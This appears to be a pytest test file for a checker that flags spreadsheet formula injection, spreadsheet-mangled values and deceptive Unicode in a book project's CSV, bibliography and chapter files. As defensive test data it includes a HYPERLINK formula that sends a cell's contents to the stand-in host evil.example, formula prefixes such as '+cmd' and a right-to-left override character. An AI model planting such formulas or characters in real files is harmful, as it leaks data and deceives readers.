"""Cells of text hold nothing that a spreadsheet would run, and nothing that one has made of what was entered."""

from __future__ import annotations

from pathlib import Path

import pytest
from books import edit

from helpers.commands.check import find_problems
from helpers.evidence.evidence import load, read

HYPERLINK = '"=HYPERLINK(""https://evil.example/?""&A1,""Beta"")"'
FORMULAS = [HYPERLINK, "=1+1", "+cmd", "@SUM(A1)", "-cmd", "-(1)", "＝1+1", "'=1"]
MADE = {
    "8-Jan": "a date",
    "08.Jan": "a date",
    "06. Apr": "a date",
    "1/Feb": "a date",
    "Jan-08": "a date",
    "6-Apr-24": "a date",
    "8. Mai": "a date",
    "1E+05": "a power of ten",
    "2.5E-03": "a power of ten",
    "1,2E+05": "a power of ten",
    "#REF!": "a message",
    "#NAME?": "a message",
    "#N/A": "a message",
    "#####": "a message",
}
PLAIN = [
    "-5",
    "- 0.5",
    "May 2024",
    "May, Jane",
    "3-4 days",
    "E-cadherin",
    "#1 of 3",
    "Mar",
    "a = b",
    "c@d",
    "1-2",
    "(=)",
]


def with_label(book: Path, label: str) -> list[str]:
    edit(book / "data/studies.csv", "beta2021cohort,Beta", f"beta2021cohort,{label}")
    return [f"{problem.file} row {problem.place.row}: {problem.rule}" for problem in find_problems(book)]


@pytest.mark.parametrize("label", FORMULAS[:-1])
def test_a_cell_that_a_spreadsheet_would_run_is_a_fault(book: Path, label: str):
    (said,) = with_label(book, label)
    assert said.startswith("data/studies.csv row 3: label begins with no sign that a spreadsheet takes for a formula")


@pytest.mark.parametrize(("label", "kind"), MADE.items())
def test_what_a_spreadsheet_made_of_an_entry_is_a_fault(book: Path, label: str, kind: str):
    (said,) = with_label(book, f'"{label}"')
    assert f"label holds what was entered, not {kind} that a spreadsheet made of it" in said


@pytest.mark.parametrize("label", [*PLAIN, FORMULAS[-1]])
def test_other_text_passes(book: Path, label: str):
    assert with_label(book, f'"{label}"') == []


HIDDEN = {
    "control": ("A\x07b", "text holds no control characters"),
    "escape": ("A\x1b[Jb", "text holds no control characters"),
    "another line end": ("A\u2028b", "text holds no control characters"),
    "turned around": ("A\u202eb", "letters are shown in the order in which they stand"),
    "isolated": ("A\u2066b\u2069", "letters are shown in the order in which they stand"),
}


@pytest.mark.parametrize(("label", "rule"), HIDDEN.values(), ids=HIDDEN)
@pytest.mark.parametrize("name", ["data/studies.csv", "references.bib", "chapters/index.md"])
def test_letters_that_deceive_are_a_fault_with_their_place(book: Path, name: str, label: str, rule: str):
    old = {
        "data/studies.csv": "2020,Alpha",
        "references.bib": "An invented trial",
        "chapters/index.md": "Its references",
    }
    old["data/studies.csv"] = "alpha2020trial,Alpha"
    edit(book / name, old[name], f"{old[name]} {label}")
    found = find_problems(book)
    assert {problem.rule for problem in found} == {rule}
    assert all(problem.file == name and problem.place.line and "U+" in problem.found for problem in found)


@pytest.mark.parametrize("letter", ["\u200b", "\u2060", "\u00ad"])
def test_a_letter_without_width_is_told_in_chapters_and_taken_out_of_tables(book: Path, letter: str):
    edit(book / "chapters/index.md", "Its references", f"Its{letter} references")
    (problem,) = find_problems(book)
    assert (problem.rule, problem.place.line) == ("every letter of a text can be seen", 6)
    edit(book / "chapters/index.md", letter, "")
    edit(book / "data/studies.csv", "alpha2020trial,Alpha", f"alpha2020trial,Al{letter}pha")
    evidence, (problem,) = read(book)
    assert "Run `review format`" in problem.remedy and evidence is not None
    assert evidence.studies["alpha2020trial"]["label"] == "Alpha"


def test_joiners_stay_in_the_scripts_that_need_them(book: Path):
    edit(book / "data/studies.csv", "alpha2020trial,Alpha", "alpha2020trial,می\u200cخواهم")
    assert load(book).studies["alpha2020trial"]["label"] == "می\u200cخواهم"
